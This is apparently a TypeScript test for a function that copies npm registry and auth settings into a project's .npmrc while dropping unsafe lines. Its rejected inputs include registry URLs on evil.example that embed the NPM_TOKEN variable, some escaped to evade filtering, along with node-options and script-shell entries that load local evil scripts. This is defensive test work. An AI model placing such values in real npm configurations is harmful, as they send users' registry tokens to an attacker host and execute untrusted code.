import assert from 'node:assert/strict'
import { readFile } from 'node:fs/promises'
import { join } from 'node:path'
import { test } from 'node:test'
import { copyRegistries } from '../cli/sources/npm/npmrc.ts'
import { temporary } from './world.ts'

test('of a project, npm gets its registries and how to log in there, and no address with a variable in it', async (t) => {
  const folder = await temporary(t)
  const kept = ['registry=https://registry.example/', '@acme:registry = https://acme.example/', '//acme.example/:_authToken=${NPM_TOKEN}']
  const left = [
    'registry=https://evil.example/${NPM_TOKEN}/',
    String.raw`registry="https://evil.example/\u0024{NPM_TOKEN}/"`,
    String.raw`@acme:registry="https://evil.example/$\u007bNPM_TOKEN}/"`,
    'node-options=--require ./evil.js',
    'script-shell=./evil.sh',
  ]
  await copyRegistries({ workspace: folder, readSettings: async () => [...left, ...kept].join('\r') }, folder)
  assert.equal(await readFile(join(folder, '.npmrc'), 'utf8'), `${kept.join('\n')}\n`)
})
